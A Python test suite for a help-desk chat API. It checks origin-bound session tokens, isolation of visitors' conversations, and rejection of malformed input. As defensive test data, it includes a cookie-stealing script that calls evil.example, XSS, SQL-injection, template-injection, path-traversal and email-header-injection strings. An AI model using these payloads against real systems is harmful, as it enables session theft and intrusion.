"""Sessions and bad input over the network: what belongs to one visitor never reaches another, and nothing breaks."""

from __future__ import annotations

import json
import random
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx2
import jwt
import pytest
import uvicorn
from pydantic import SecretStr

from api.app import create_app
from api.content import Draft
from api.services import Services
from api.tokens import Tokens, VisitorClaims
from api.wiring import build
from core.clock import system_clock
from core.settings import Settings

SECRET = "the secret of the site and its help desk, long enough for every HMAC"
SHOP, BLOG = "https://shop.example.com", "https://blog.example.com"
QUESTION = {"question": "How do I reset my password?"}
Headers = dict[str, str]


@dataclass
class House:
    """A server, and what to look into it with."""

    client: httpx2.Client
    parts: Services

    def session(self, origin: str | None, token: str | None = None, **body: Any) -> httpx2.Response:
        """Begin or renew."""
        return self.client.post("/v1/sessions", json=body, headers=headers(origin, token))

    def count(self, table: str) -> int:
        with self.parts.database.read() as session:
            return int(session.execute(f"SELECT count(*) FROM {table}").fetchone()[0])  # noqa: S608 - fixed names


def headers(origin: str | None, token: str | None = None) -> Headers:
    named = {"Origin": origin} if origin else {}
    return named | ({"Authorization": f"Bearer {token}"} if token else {})


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """One server for all tests here: two sites may carry the widget."""
    settings = Settings(
        _env_file=None,
        data=tmp_path_factory.mktemp("sessions"),
        embedder="hashing",
        rate_limit="off",
        allowed_origins=(SHOP, BLOG),
        identity_secret=SecretStr(SECRET),
    )
    parts = build(settings)
    parts.content.write("password", Draft("Reset your password", "Open Settings and choose Reset password.", lang="en"))
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        server = uvicorn.Server(uvicorn.Config(create_app(services=parts), log_level="critical"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
        thread.start()
        while not server.started:
            time.sleep(0.02)
        host, port = listener.getsockname()
        with httpx2.Client(base_url=f"http://{host}:{port}", timeout=30, trust_env=False) as client:
            yield House(client, parts)
        server.should_exit = True
        thread.join(10)
    parts.close()


def identity(subject: str, **claims: Any) -> str:
    return jwt.encode({"sub": subject, "exp": int(time.time()) + 600} | claims, SECRET, "HS256")


def refused(response: httpx2.Response, status: int, code: str) -> None:
    assert (response.status_code, response.json()["code"]) == (status, code), response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["detail"]


# Tokens and origins


def test_a_token_is_worth_nothing_on_another_site(house: House) -> None:
    token = house.session(SHOP).json()["token"]
    asked = house.client.post("/v1/ask", json=QUESTION, headers=headers(SHOP, token)).json()
    path = f"/v1/conversations/{asked['conversation_id']}"
    assert house.client.get(path, headers=headers(SHOP, token)).status_code == 200
    for origin in (BLOG, str(house.client.base_url).rstrip("/"), None):
        for response in (
            house.client.get(path, headers=headers(origin, token)),
            house.client.get(f"{path}/events", headers=headers(origin, token)),
            house.client.post("/v1/ask", json=QUESTION, headers=headers(origin, token)),
            house.client.post(f"{path}/escalate", headers=headers(origin, token)),
            house.session(origin, token),
            house.session(origin, token, identity=identity("thief")),
        ):
            refused(response, 401, "token_of_another_origin")
    # As the widget does: without the old token it gets a session of its own, and sees nothing.
    own = house.session(BLOG).json()["token"]
    refused(house.client.get(path, headers=headers(BLOG, own)), 404, "not_found")


def test_a_page_of_our_own_reads_without_naming_its_origin(house: House) -> None:
    """Browsers send `Origin` with what a page posts to its own server, and not with what it gets from there."""
    own = str(house.client.base_url).rstrip("/")
    token = house.session(own).json()["token"]
    asked = house.client.post("/v1/ask", json=QUESTION, headers=headers(own, token)).json()
    assert house.client.get(f"/v1/conversations/{asked['conversation_id']}", headers=headers(None, token)).is_success


def test_a_token_of_a_program_is_no_token_of_a_page(house: House) -> None:
    token = house.session(None).json()["token"]
    assert house.client.post("/v1/ask", json=QUESTION, headers=headers(None, token)).is_success
    refused(house.client.post("/v1/ask", json=QUESTION, headers=headers(SHOP, token)), 401, "token_of_another_origin")


def test_a_token_from_before_origins_is_exchanged_once(house: House) -> None:
    old, _ = Tokens(house.parts.key, system_clock).issue(VisitorClaims("vis_before", origin=None))
    refused(house.client.post("/v1/ask", json=QUESTION, headers=headers(SHOP, old)), 401, "token_of_another_origin")
    new = house.session(SHOP, old).json()
    assert new["visitor_id"] == "vis_before"
    refused(house.session(BLOG, new["token"]), 401, "token_of_another_origin")


def test_a_token_with_the_id_of_somebody_known_cannot_be_renewed(house: House) -> None:
    """Earlier versions gave the person the anonymous id, whose token may still be kept in some browser."""
    known = house.session(SHOP, identity=identity("ana")).json()
    old, _ = Tokens(house.parts.key, system_clock).issue(VisitorClaims(known["visitor_id"], origin=None))
    refused(house.session(SHOP, old), 401, "unauthorized")
    other = house.session(SHOP, old, identity=identity("ben")).json()
    assert other["visitor_id"] != known["visitor_id"]


def test_signing_out_ends_the_session_here_too(house: House) -> None:
    """What a signed-in visitor leaves in the browser neither renews itself nor becomes an anonymous visitor's."""
    token = house.session(SHOP, identity=identity("cleo")).json()["token"]
    refused(house.session(SHOP, token), 401, "unauthorized")
    assert house.session(SHOP, token, identity=identity("cleo")).json()["identified"] is True
    short = house.session(SHOP, identity=identity("cleo", exp=int(time.time()) - 25)).json()
    assert short["expires_in"] <= 0
    refused(house.client.post("/v1/ask", json=QUESTION, headers=headers(SHOP, short["token"])), 401, "unauthorized")


# Whose is what


@dataclass
class Ledger:
    """What must be true: the owner of each conversation, and who each token stands for."""

    owners: dict[str, str] = field(default_factory=dict)
    tokens: list[tuple[str, str, str]] = field(default_factory=list)
    """Token, origin and owner."""

    def merge(self, anonymous: str, person: str) -> None:
        self.owners = {name: person if owner == anonymous else owner for name, owner in self.owners.items()}


@dataclass
class Browser:
    """A browser, shared by whoever comes."""

    house: House
    ledger: Ledger
    origin: str
    token: str = ""
    owner: str = ""

    def hold(self, token: str, owner: str) -> None:
        self.token, self.owner = token, owner
        self.ledger.tokens.append((token, self.origin, owner))

    def come(self) -> None:
        made = self.house.session(self.origin).json()
        self.hold(made["token"], made["visitor_id"])

    def renew(self) -> None:
        made = self.house.session(self.origin, self.token)
        if self.owner.startswith("vis_"):
            assert made.json()["visitor_id"] == self.owner
            self.hold(made.json()["token"], self.owner)
        else:
            refused(made, 401, "unauthorized")

    def sign_in(self, person: str) -> None:
        made = self.house.session(self.origin, self.token, identity=identity(person)).json()
        if self.owner.startswith("vis_"):
            self.ledger.merge(self.owner, person)
        self.hold(made["token"], person)

    def ask(self) -> None:
        asked = self.house.client.post("/v1/conversations", headers=headers(self.origin, self.token)).json()
        self.ledger.owners[asked["conversation_id"]] = self.owner


@pytest.mark.parametrize("seed", range(4))
def test_nobody_gets_what_is_somebody_elses_whoever_signs_in_where(house: House, seed: int) -> None:
    """Visitors come, ask, sign in and out at shared browsers of two sites, in any order; then every token ever given
    out, kept ones of the past too, opens exactly the conversations of the one it stands for."""
    chance, ledger = random.Random(seed), Ledger()
    browsers = [Browser(house, ledger, origin) for origin in (SHOP, SHOP, BLOG)]
    people = [f"person {seed} {name}" for name in "ab"]
    for browser in browsers:
        browser.come()
    for _ in range(30):
        browser = chance.choice(browsers)
        act = chance.choice(("come", "renew", "sign in", "sign in", "ask", "ask", "ask", "old token"))
        if act == "come":
            browser.come()
        elif act == "renew":
            browser.renew()
        elif act == "sign in":
            browser.sign_in(chance.choice(people))
        elif act == "old token":
            browser.token, _, browser.owner = chance.choice([one for one in ledger.tokens if one[1] == browser.origin])
        else:
            browser.ask()
    stranger = Browser(house, ledger, SHOP)
    stranger.come()
    stranger.ask()
    for token, origin, owner in ledger.tokens:
        for conversation, belongs_to in ledger.owners.items():
            found = house.client.get(f"/v1/conversations/{conversation}", headers=headers(origin, token)).status_code
            assert found == (200 if owner == belongs_to else 404), (owner, belongs_to)


# Bad input


def body(name: str, text: str) -> bytes:
    return f'{{"{name}": "{text}"}}'.encode()


UNUSABLE = {
    "empty": "",
    "white": r" \n\t ",
    "10,000 characters": "x" * 10_000,
    "control characters alone": r"\u0000\u0001\u001b",
    "half a character": r"\ud83d",
    "halves in the wrong order": r"How\ude00\ud83d?",
}
USABLE = {
    "only emoji": "😀😀🎉",
    "a script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "pasted HTML": r"<img src=x onerror=\"alert(1)\"><a href='javascript:alert(1)'>password</a>",
    "control characters within": r"How do I\u0000 reset\u001b[31m my password?",
    "a template": "{{7*7}} ${7*7} <%= 7*7 %>",
    "SQL": "'; DROP TABLE messages; -- password",
    "right to left": "\u202egnp.exe\u202c password \u2066\u2069",
    "one long word": "x" * 2_000,
    "full-text syntax": 'password" OR NEAR( * ^ AND "',
}


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in UNUSABLE.items()])
def test_a_line_that_cannot_be_used_is_refused_and_nothing_is_lost(house: House, text: str) -> None:
    token = house.session(SHOP).json()["token"]
    mine = headers(SHOP, token) | {"Content-Type": "application/json"}
    asked = house.client.post("/v1/ask", json=QUESTION, headers=mine).json()
    path, lines = f"/v1/conversations/{asked['conversation_id']}", house.count("messages")
    for route, name in (("/v1/ask", "question"), (f"{path}/messages", "text"), ("/v1/conversations", "text")):
        refused(house.client.post(route, content=body(name, text), headers=mine), 422, "invalid_input")
    assert house.count("messages") == lines
    assert len(house.client.get(path, headers=mine).json()["messages"]) == 2


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in USABLE.items()])
def test_an_odd_line_is_data_and_nothing_else(house: House, text: str) -> None:
    token = house.session(SHOP).json()["token"]
    mine = headers(SHOP, token) | {"Content-Type": "application/json"}
    escaped = text if "\\" in text else json.dumps(text)[1:-1]
    asked = house.client.post("/v1/ask", content=body("question", escaped), headers=mine)
    assert asked.status_code == 200
    assert asked.json()["decision"] in {"answer", "caveat", "clarify", "escalate"}
    found = house.client.get(f"/v1/conversations/{asked.json()['conversation_id']}", headers=mine)
    assert found.headers["content-type"] == "application/json"
    assert found.headers["x-content-type-options"] == "nosniff"
    kept = found.json()["messages"][0]["text"]
    assert not any(sign in kept for sign in "\x00\x1b")
    if "\\" not in text:
        assert kept == text


BODIES: dict[str, tuple[bytes, int, str]] = {
    "nothing": (b"", 422, "invalid_input"),
    "no JSON": (b"{", 400, "malformed_body"),
    "no UTF-8": (b'{"question": "\xff\xfe"}', 400, "malformed_body"),
    "a list": (b"[]", 422, "invalid_input"),
    "null": (b"null", 422, "invalid_input"),
    "no text": (b'{"question": 5}', 422, "invalid_input"),
    "an object for a text": (b'{"question": {"$gt": ""}}', 422, "invalid_input"),
    "no question": (b'{"text": "How?"}', 422, "invalid_input"),
    "a deep nest": (b'{"question":' + b"[" * 30_000, 400, "malformed_body"),
    "a deep nest that ends": (b'{"question":' + b"[" * 20_000 + b"]" * 20_000 + b"}", 400, "malformed_body"),
    "a number without end": (b'{"question": ' + b"9" * 10_000 + b"}", 400, "malformed_body"),
    "an infinite attribute": (b'{"question": "q", "page": {"attributes": {"a": 1e999}}}', 422, "invalid_input"),
    "too large": (b'{"question": "' + b"x" * 70_000 + b'"}', 413, "too_large"),
    "half a character in a name": (rb'{"question": "q", "page": {"attributes": {"\ud83d": 1}}}', 422, "invalid_input"),
    "half a character in a value": (
        rb'{"question": "q", "page": {"attributes": {"a": "\ud83d"}}}',
        422,
        "invalid_input",
    ),
    "half a character in a title": (rb'{"question": "q", "page": {"title": "\ud83d"}}', 422, "invalid_input"),
    "no language": (rb'{"question": "q", "lang": "<script>"}', 422, "invalid_input"),
    "nobody's conversation": (rb'{"question": "q", "conversation_id": "con_1"}', 404, "not_found"),
    "a conversation with a control character": (rb'{"question": "q", "conversation_id": "\u0000"}', 404, "not_found"),
    "half a character for a conversation": (rb'{"question": "q", "conversation_id": "\ud83d"}', 422, "invalid_input"),
}


@pytest.mark.parametrize(("raw", "status", "code"), [pytest.param(*row, id=name) for name, row in BODIES.items()])
def test_a_body_that_cannot_be_read_is_a_documented_problem(house: House, raw: bytes, status: int, code: str) -> None:
    lines = house.count("messages")
    sent = house.client.post("/v1/ask", content=raw, headers={"Content-Type": "application/json"})
    refused(sent, status, code)
    assert house.count("messages") == lines


SESSIONS: dict[str, tuple[bytes, int, str]] = {
    "no token": (b'{"identity": "hello"}', 401, "identity_refused"),
    "an empty one": (b'{"identity": ""}', 422, "invalid_input"),
    "one without end": (b'{"identity": "' + b"e" * 9_000 + b'"}', 422, "invalid_input"),
    "no text": (b'{"identity": 5}', 422, "invalid_input"),
    "half a character": (rb'{"identity": "\ud83d"}', 422, "invalid_input"),
    "no ASCII": ('{"identity": "é.é.é"}'.encode(), 401, "identity_refused"),
    "a user without hash": (b'{"user": {"id": "42"}}', 422, "invalid_input"),
    "a user with a wrong hash": (b'{"user": {"id": "42", "hash": "00"}}', 401, "identity_refused"),
    "half a character for a user": (rb'{"user": {"id": "\ud83d", "hash": "00"}}', 422, "invalid_input"),
    "half a character for a name": (rb'{"user": {"id": "42", "hash": "00", "name": "\ud83d"}}', 422, "invalid_input"),
    "no JSON": (b"{", 400, "malformed_body"),
    "a list": (b"[]", 422, "invalid_input"),
}


@pytest.mark.parametrize(("raw", "status", "code"), [pytest.param(*row, id=name) for name, row in SESSIONS.items()])
def test_an_identity_that_cannot_be_read_is_a_documented_problem(
    house: House, raw: bytes, status: int, code: str
) -> None:
    visitors = house.count("visitors")
    sent = house.client.post("/v1/sessions", content=raw, headers={"Content-Type": "application/json"})
    refused(sent, status, code)
    assert house.count("visitors") == visitors


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Authorization", b"Bearer"),
        ("Authorization", b"Bearer x.y.z"),
        ("Authorization", b"Basic YTpi"),
        ("Authorization", b"Bearer " + b"x" * 9_000),
        ("Authorization", b"Bearer \xff\xfe.\xff.\xff"),
        ("Authorization", f"Bearer {identity('42')}".encode()),
    ],
)
def test_credentials_that_are_none_are_refused(house: House, name: str, value: bytes) -> None:
    for method, path in (("POST", "/v1/ask"), ("GET", "/v1/conversations/con_1"), ("GET", "/v1/search?q=x")):
        sent = house.client.request(
            method, path, json=QUESTION if method == "POST" else None, headers=[(name.encode(), value)]
        )
        refused(sent, 401, "unauthorized")


@pytest.mark.parametrize(
    "name", ["%00", "..%2f..%2fetc%2fpasswd", "x" * 1_000, "%F0%9F%98%80", "%ED%A0%BD", "'--", "%20"]
)
def test_a_conversation_that_cannot_be_is_not_found(house: House, name: str) -> None:
    for method, tail in (("GET", ""), ("GET", "/events"), ("POST", "/escalate"), ("POST", "/csat")):
        sent = house.client.request(
            method, f"/v1/conversations/{name}{tail}", json={"score": 3} if method == "POST" else None
        )
        assert sent.status_code in {404, 422}, (tail, sent.text)
        assert sent.headers["content-type"] == "application/problem+json"


def test_comments_marks_and_addresses_that_cannot_be_used_are_named(house: House) -> None:
    asked = house.client.post("/v1/ask", json=QUESTION).json()
    path = f"/v1/conversations/{asked['conversation_id']}"
    for route, raw in (
        (f"{path}/escalate", rb'{"comment": "\ud83d"}'),
        (f"{path}/escalate", b'{"comment": "' + b"x" * 2_001 + b'"}'),
        (f"{path}/csat", b'{"score": 6}'),
        (f"{path}/csat", b'{"score": 1e99}'),
        (f"{path}/csat", rb'{"score": 5, "comment": "\ud83d"}'),
        (f"{path}/contact", rb'{"email": "\ud83d@example.com"}'),
        (f"{path}/contact", b'{"email": "<script>@example.com"}'),
        (f"{path}/contact", rb'{"email": "a@example.com\r\nBcc: b@example.com"}'),
        (f"/v1/messages/{asked['message_id']}/feedback", rb'{"helpful": false, "comment": "\ud83d"}'),
        (f"/v1/messages/{asked['message_id']}/feedback", b'{"helpful": "perhaps"}'),
    ):
        sent = house.client.post(route, content=raw, headers={"Content-Type": "application/json"})
        refused(sent, 422, "invalid_input")
    assert house.client.get(path).json()["escalation"] is None
